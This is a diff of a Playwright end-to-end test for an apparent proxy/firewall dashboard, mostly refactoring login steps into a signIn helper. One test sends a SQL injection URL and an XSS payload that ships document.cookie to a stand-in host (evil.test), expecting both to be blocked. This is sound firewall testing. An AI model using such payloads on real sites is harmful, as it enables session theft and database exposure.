@@ -2,6 +2,7 @@ import http from "node:http";
 import { expect, test } from "@playwright/test";
 import { startPageBackend, type PageBackend } from "./support/backend-page";
 import { startProduct, type RunningProduct } from "./support/product";
+import { signIn } from "./support/sign-in";
 
 /** An admin protects a site with a password in the dashboard; a visitor's browser is asked for it. */
 test.describe.configure({ mode: "serial" });
@@ -73,11 +74,7 @@ test("an access list with a user, assigned in the site form, makes the browser g
   // Open to everyone before.
   await expect.poll(() => statusViaProxy(), { timeout: 15_000 }).toBe(200);
 
-  await page.goto(`${product.dashboardUrl}/login`);
-  await page.getByLabel("Email").fill(admin.email);
-  await page.getByLabel("Password", { exact: true }).fill(admin.password);
-  await page.getByRole("button", { name: "Sign in" }).click();
-  await expect(page.getByRole("button", { name: "Sign out" })).toBeVisible();
+  await signIn(page, product.dashboardUrl, admin);
 
   await page.getByRole("link", { name: "Access lists" }).click();
   await page.getByRole("link", { name: "Add access list" }).click();
@@ -118,11 +115,7 @@ test("attacks in the URL and in a body are refused and show, in plain words, amo
   expect(await statusViaProxy("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")).toBe(403);
   expect(await postViaProxy("/comments", { text: "<script>fetch('//evil.test/?c='+document.cookie)</script>" })).toBe(403);
 
-  await page.goto(`${product.dashboardUrl}/login`);
-  await page.getByLabel("Email").fill(admin.email);
-  await page.getByLabel("Password", { exact: true }).fill(admin.password);
-  await page.getByRole("button", { name: "Sign in" }).click();
-  await expect(page.getByRole("button", { name: "Sign out" })).toBeVisible();
+  await signIn(page, product.dashboardUrl, admin);
   await page.goto(`${product.dashboardUrl}/sites/${siteId}`);
   await page.getByTestId("protection-card").getByRole("link", { name: "Blocked requests" }).click();
   await expect(page).toHaveURL(/\/access-log\?blocked=1$/);
